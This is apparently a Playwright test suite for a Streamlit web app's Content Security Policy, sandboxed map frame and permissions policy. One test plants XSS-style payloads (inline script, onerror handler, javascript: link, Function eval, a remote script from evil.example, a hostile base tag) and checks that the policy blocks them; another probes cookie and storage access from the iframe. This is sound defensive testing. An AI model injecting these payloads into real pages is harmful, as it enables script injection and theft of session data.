"""Every screen and public page in a browser: the policy is broken by none of ours, and holds."""

import ast
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage

from tests.server import Server
from tests.test_accessible import PAGES
from tests.walk import Walker

pytestmark = pytest.mark.browser

FRAME = Path(__file__).parent.parent / "pages" / "frame.py"
QUERIES = {"neighbourhood": "?town=042111-下野郷"}
LISTEN = """
document.addEventListener('securitypolicyviolation', (one) =>
  console.log('POLICY ' + one.effectiveDirective + ' ' + one.blockedURI + ' ' +
    one.sourceFile + ':' + one.lineNumber + ' ' + one.sample));
"""


def screens() -> list[str]:
    """The addresses of all screens, read off their table without running it."""
    return [
        ast.literal_eval(call.args[1])
        for call in ast.walk(ast.parse(FRAME.read_text("utf-8")))
        if isinstance(call, ast.Call) and getattr(call.func, "id", "") == "Screen"
    ]


class Watched(Walker):
    """A browser that notes what a policy forbade, in every frame."""

    def __init__(self, chromium: Browser, address: str) -> None:
        super().__init__(chromium, address)
        self.broken: list[str] = []
        self.context.add_init_script(LISTEN)
        self.context.on("console", self._heard)

    def _heard(self, message: ConsoleMessage) -> None:
        if message.text.startswith("POLICY ") or "Content Security Policy" in message.text:
            self.broken.append(f"{self.page.url}: {message.text}")


def real(broken: list[str]) -> list[str]:
    """What matters: Streamlit's reader of messages asks once for WebAssembly and does without."""
    return [one for one in broken if not re.search(r"wasm-eval \S+/static/js/protobuf\.", one)]


@pytest.fixture
def watched(desk_server: Server, chromium: Browser) -> Iterator[Watched]:
    walker = Watched(chromium, desk_server.address)
    yield walker
    walker.close()


def test_no_screen_breaks_its_policy(watched: Watched) -> None:
    watched.sign_in("admin")
    for path in screens():
        watched.open(f"/{path}{QUERIES.get(path, '')}")
        watched.page.wait_for_timeout(500)  # maps and charts are drawn after the run
    assert real(watched.broken) == []


@pytest.mark.parametrize("name", PAGES)
def test_no_public_page_breaks_its_policy(watched: Watched, name: str) -> None:
    watched.page.goto(f"{watched.address}{PAGES[name] or '/classes'}")
    watched.page.wait_for_load_state("networkidle")
    assert watched.broken == []


# From a timer: what a debugger asks for itself may use eval.
PLANTED = """
() => setTimeout(() => {
  const script = document.createElement('script');
  script.textContent = 'window.planted = 1';
  document.body.append(script);
  const picture = document.createElement('div');
  picture.innerHTML = '<img src=x onerror="window.planted = 2"><a href="javascript:planted=3">x';
  document.body.append(picture);
  picture.querySelector('a').click();
  try { new Function('window.planted = 4')(); } catch {}
  const far = document.createElement('script');
  far.src = 'https://evil.example/x.js';
  document.body.append(far);
  const base = document.createElement('base');
  base.href = 'https://evil.example/';
  document.head.append(base);
})
"""


@pytest.mark.parametrize("path", ["/", "/today", "/wifi", "/sign-in", "/cancel", "/classes"])
def test_what_somebody_plants_does_not_run(watched: Watched, path: str) -> None:
    watched.page.goto(f"{watched.address}{path}")
    watched.page.wait_for_load_state("networkidle")
    watched.page.evaluate(PLANTED)
    watched.page.wait_for_timeout(500)
    assert watched.page.evaluate("window.planted") is None
    assert watched.page.evaluate("document.baseURI").startswith(watched.address)
    forbidden = " ".join(watched.broken)
    for what in ("inline", "eval", "https://evil.example/x.js", "base-uri"):
        assert what in forbidden, what


def test_the_maps_frame_is_a_place_of_its_own(watched: Watched) -> None:
    """Text runs in there, and reaches nothing: no page of ours, no cookie, no answer of ours."""
    watched.sign_in("admin")
    watched.open("/neighbourhoods")
    watched.page.frame_locator("iframe").locator(".leaflet-pane").first.wait_for(state="attached")
    frame = next(one for one in watched.page.frames if "streamlit_folium" in one.url)
    found = frame.evaluate(
        """async () => {
          const tried = async (what) => { try { return String(await what()); } catch (e) {
            return e.name; } };
          return {
            origin: self.origin,
            parent: await tried(() => parent.document.title),
            cookie: await tried(() => document.cookie),
            stored: await tried(() => sessionStorage.length),
            page: await tried(async () => (await fetch('/today', {credentials: 'include'})).status),
            away: await tried(async () => (await fetch('https://evil.example/')).status),
          };
        }"""
    )
    assert found == {
        "origin": "null",
        "parent": "SecurityError",
        "cookie": "SecurityError",
        "stored": "SecurityError",
        "page": "TypeError",
        "away": "TypeError",
    }


def test_files_go_in_and_out_of_a_screen(watched: Watched, tmp_path: Path) -> None:
    watched.sign_in("admin")
    watched.open("/tables")
    with watched.page.expect_download() as taken:
        watched.page.locator("[data-testid=stDownloadButton] button").first.click()
    file = tmp_path / "from the desk.csv"
    taken.value.save_as(file)
    assert file.stat().st_size > 0
    with watched.page.expect_response("**/_stcore/upload_file/**") as sent:
        watched.page.locator("input[type=file]").first.set_input_files(file)
    assert sent.value.status == 204
    watched.settle()
    assert real(watched.broken) == []


@pytest.mark.parametrize(
    ("path", "asked"), [("/today", ["camera"]), ("/wifi", ["geolocation"]), ("/sign-in", [])]
)
def test_pages_may_ask_the_person_only_for_what_they_need(
    watched: Watched, path: str, asked: list[str]
) -> None:
    watched.page.goto(f"{watched.address}{path}")
    allowed = watched.page.evaluate("document.featurePolicy.allowedFeatures()")
    able = {"camera", "microphone", "geolocation", "payment", "usb", "serial", "hid"}
    assert sorted(able & set(allowed)) == asked
